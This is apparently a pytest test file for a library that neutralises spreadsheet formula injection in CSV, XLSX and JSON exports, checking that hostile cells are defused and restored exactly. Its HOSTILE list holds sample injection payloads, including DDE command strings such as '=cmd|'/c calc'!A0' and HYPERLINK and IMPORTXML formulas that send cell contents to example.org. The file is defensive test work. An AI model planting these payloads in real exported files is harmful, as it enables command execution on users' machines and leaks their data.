"""Tables written for other programmes: no text in them is a formula, and what is read again is what was."""

import csv
import io
import json
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from goldthread.tables.columns import numbers
from goldthread.tables.reading import read
from goldthread.tables.writing import Sheet, as_cell, csv_of, defused, json_of, restored, xlsx_of

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"Look")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "It went well.\n=1+1",
    "It went well.\r\n-1+1\r\n",
    "Ward 4;=1+1;Ward 5",
    "Ward 4\t=1+1",
    "'\t=1+1",
]
HARMLESS = [
    "Ward 4",
    "it's 5 - 3",
    "A&E",
    "",
    "-",
    "+",
    "Letters (=late)",
    "s@example.org",
    "’twas",
    "a, =b",
]
NUMBERS = ["-5", "+3.5", "-0.25", "-12%", "1e-5", "-1E+3", "-.5", "7"]
READ_AGAIN = [text for text in HOSTILE if text.isprintable() or "\n" in text]
SIGNS = "=+-@＝＋－＠"
UNSEEN = "\u00a0\ufeff\u200b\x00 "


def parted(text: str, delimiter: str) -> list[str]:
    """Each cell as a spreadsheet sees it whose settings part columns there, its quotation marks or not."""
    quoted = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    lines = text.replace("\r", "\n").split("\n")
    return quoted + [cell for line in lines for cell in line.split(delimiter)]


def written(*texts: str) -> str:
    rows = [[text, 1] for text in texts]
    return b"".join(csv_of(["said", "n"], rows)).decode()


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_text_is_a_formula_wherever_columns_are_parted(text: str, delimiter: str) -> None:
    live = [cell for cell in parted(written(text), delimiter) if cell.strip(UNSEEN)[:1] in tuple(SIGNS)]
    assert live == []


@pytest.mark.parametrize("text", [*HARMLESS, *NUMBERS])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


def test_numbers_stay_numbers() -> None:
    assert [as_cell(value) for value in (-5, -0.25, 7)] == ["-5", "-0.25", "7"]
    assert [as_cell(value) for value in (float("nan"), float("inf"), None)] == ["", "", ""]
    assert [as_cell(value) for value in (True, date(2019, 7, 15))] == ["true", "2019-07-15"]


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS, *NUMBERS, "'=1", "''=1", "'-5", "'"])
def test_what_was_there_is_restored(text: str) -> None:
    assert restored(defused(text)) == text


@given(st.text(alphabet="=+-@＝;\t\r\n '\"a1\ufeff,", max_size=12))
def test_whatever_text_is_restored_and_begins_no_formula(text: str) -> None:
    told = defused(text)
    assert restored(told) == text
    for cell in told.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";"):
        begun = cell.strip(UNSEEN)
        assert begun[:1] not in tuple(SIGNS) or len(begun) == 1 or told == text


@pytest.mark.parametrize(
    "text", [t for t in HOSTILE if t.isprintable() or "\n" in t or ";" in t] + ["'=1", "-5 of us"]
)
def test_our_own_reader_reads_what_was_written(text: str) -> None:
    rows = [[text, -3], ["plain", 2.5], ["other", -0.25]]
    table = read(b"".join(csv_of(["said", "n"], rows)), name="said.csv", wanted=["said", "n"])
    assert list(table.column("said")) == [text, "plain", "other"]
    assert list(numbers(table, "n").values) == [-3, 2.5, -0.25]


def test_a_workbook_holds_texts_as_texts_and_numbers_as_numbers() -> None:
    rows = [[text, -1.5] for text in HOSTILE]
    content = b"".join(xlsx_of([Sheet("Said", ["said", "n"], rows)], ["Every text as it was said."]))
    sheet = load_workbook(io.BytesIO(content))["Said"]
    cells = list(sheet.iter_rows(min_row=2))
    assert {(said.data_type, n.data_type) for said, n in cells} == {("s", "n")}
    assert [n.value for _, n in cells] == [-1.5] * len(HOSTILE)
    assert all(said.quotePrefix for said, _ in cells)
    kept = [said.value for said, _ in cells][:8]
    assert kept == HOSTILE[:8]


def test_a_workbook_says_how_it_was_made() -> None:
    content = b"".join(xlsx_of([Sheet("Said", ["said"], [])], ["From what was recorded.", "=1+1"]))
    book = load_workbook(io.BytesIO(content))
    assert [row[0] for row in book["How it was made"].values] == ["how", "From what was recorded.", "=1+1"]
    assert book["How it was made"]["A3"].data_type == "s"
    assert book["Said"]["A1"].value == "There is nothing here yet."


def test_json_holds_everything_as_it_is_and_says_how_it_was_made() -> None:
    sheet = Sheet("said", ["text", "n"], [["=1+1", float("nan")], ["-1", -5]])
    told = json.loads(b"".join(json_of([sheet], ["From what was recorded."])))
    assert told == {
        "said": [{"text": "=1+1", "n": None}, {"text": "-1", "n": -5}],
        "made": ["From what was recorded."],
    }


def test_headings_are_defused_too() -> None:
    assert b"".join(csv_of(["=1+1"], [])) == b"'=1+1\r\n"


def test_what_no_workbook_can_hold_is_marked() -> None:
    content = b"".join(xlsx_of([Sheet("Said", ["said"], [["a\x00b\ud800"], ["x" * 40_000]])], []))
    first, second = (row[0] for row in load_workbook(io.BytesIO(content))["Said"].iter_rows(min_row=2))
    assert first.value == "a\ufffdb\ufffd"
    assert len(second.value) == 32_767
